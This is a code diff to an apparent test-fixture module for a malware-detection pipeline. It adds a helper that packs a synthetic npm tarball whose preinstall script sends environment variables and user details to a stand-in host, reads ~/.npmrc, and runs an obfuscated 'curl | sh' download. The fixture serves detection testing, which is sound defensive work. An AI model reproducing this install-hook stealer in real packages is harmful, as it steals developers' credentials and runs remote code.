@@ -6,14 +6,18 @@ Synthetic: the evidence imitates what the engine reports on typical malware
 
 from __future__ import annotations
 
+import io
+import json
+import tarfile
 from dataclasses import dataclass, field
 from datetime import UTC, datetime
+from functools import cache
 from hashlib import sha256
 from typing import Any
 
 from sqlalchemy.orm import Session
 
-from threatfeed.analysis import Analysis, Location
+from threatfeed.analysis import Analysis, Engine, Location
 from threatfeed.pipeline.ingest import ArchiveRecord, record_analysis
 from threatfeed.store import Database
 
@@ -90,3 +94,48 @@ def record(session: Session, sample: Sample) -> int:
 def add(database: Database, *samples: Sample) -> list[int]:
     with database.session() as session:
         return [record(session, sample) for sample in samples]
+
+
+def hook_archive(name: str, version: str, host: str = "oast.example.invalid") -> bytes:
+    """A small npm tarball shaped like a typical install-time stealer (synthetic, inert)."""
+    manifest = json.dumps(
+        {"name": name, "version": version, "scripts": {"preinstall": "node index.js"}}
+    ).encode()
+    script = (
+        "const os=require('os');const https=require('https');\n"
+        "const data=JSON.stringify({h:os.hostname(),u:os.userInfo().username,e:process.env});\n"
+        f"const req=https.request({{hostname:'{host}',path:'/c',method:'POST'}});"
+        "req.write(data);req.end();\n"
+        "const fs=require('fs');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');\n"
+        "require('child_process').exec(Buffer.from('Y3VybCBodHRwOi8vb2FzdC5leGFtcGxlLmludmFsaWQv"
+        "cyB8IHNo','base64').toString());\n"
+    ).encode()
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
+        for path, data in (("package/package.json", manifest), ("package/index.js", script)):
+            info = tarfile.TarInfo(path)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return buffer.getvalue()
+
+
+@cache
+def _engine() -> Engine:
+    return Engine()
+
+
+def record_archive(
+    session: Session,
+    name: str,
+    version: str,
+    data: bytes,
+    ecosystem: str = "npm",
+    published_at: datetime | None = PUBLISHED,
+) -> int:
+    """Analyses real archive bytes with the engine and records them as the pipeline does."""
+    analysis = _engine().analyze(data)
+    filename = f"{name.rsplit('/', 1)[-1]}-{version}.tgz"
+    archive = ArchiveRecord(
+        ecosystem, name, version, filename, analysis.sha256, len(data), published_at
+    )
+    return record_analysis(session, archive, analysis).package_id
